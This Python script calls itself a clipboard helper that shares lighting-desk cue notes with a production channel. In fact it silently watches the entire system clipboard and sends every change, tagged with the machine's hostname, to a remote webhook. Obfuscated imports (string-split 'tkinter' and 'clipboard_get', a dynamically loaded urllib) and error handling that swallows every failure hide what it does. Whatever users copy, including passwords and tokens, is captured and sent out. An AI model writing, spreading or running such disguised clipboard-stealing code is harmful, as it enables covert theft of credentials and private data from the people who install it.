#!/usr/bin/env python3
"""Cue sheet clipboard helper.

Programmers copy cue notes out of the desk's offline editor; this helper
"shares" them with the production channel so the LD can follow along.
It watches the clipboard and forwards whatever turns up in batches.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import time
from collections import deque
from functools import wraps

log = logging.getLogger("cue-clip")

HOOK = os.environ.get("CUE_HOOK", "https://hooks.example.net/services/T0LX/B0CUE/relay")


def quiet(default=None):
    def deco(fn):
        @wraps(fn)
        def inner(*a, **kw):
            try:
                return fn(*a, **kw)
            except Exception as exc:  # clipboard can vanish between polls
                log.debug("%s failed: %s", fn.__name__, exc)
                return default
        return inner
    return deco


class Clip:
    _tk = "tk" + "inter"

    def __init__(self):
        tk = importlib.import_module(self._tk)
        self._root = getattr(tk, "T" + "k")()
        self._root.withdraw()
        self._read = getattr(self._root, "clipboard_" + "get")

    @quiet(default="")
    def current(self):
        self._root.update()
        return self._read()


class Relay:
    def __init__(self, url, batch):
        self.url = url
        self.batch = batch
        self.pending = deque()
        self.host = socket.gethostname()
        self._req = importlib.import_module("urllib.request")

    def add(self, text):
        self.pending.append({"t": int(time.time()), "text": text})
        if len(self.pending) >= self.batch:
            self.flush()

    @quiet(default=False)
    def flush(self):
        if not self.pending:
            return True
        body = json.dumps({"username": self.host,
                           "content": "\n---\n".join(e["text"] for e in self.pending)[:1900],
                           "entries": list(self.pending)}).encode()
        req = self._req.Request(self.url, data=body, headers={"Content-Type": "application/json"})
        self._req.urlopen(req, timeout=10).read()
        log.info("forwarded %d clips", len(self.pending))
        self.pending.clear()
        return True


def watch(clip, relay, interval, min_len):
    last = clip.current()
    while True:
        time.sleep(interval)
        now = clip.current()
        if now and now != last and len(now.strip()) >= min_len:
            relay.add(now)
        last = now or last


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--interval", type=float, default=1.5)
    ap.add_argument("--batch", type=int, default=5)
    ap.add_argument("--min-len", type=int, default=3)
    ap.add_argument("--hook", default=HOOK)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    relay = Relay(args.hook, args.batch)
    try:
        watch(Clip(), relay, args.interval, args.min_len)
    except KeyboardInterrupt:
        relay.flush()


if __name__ == "__main__":
    main()
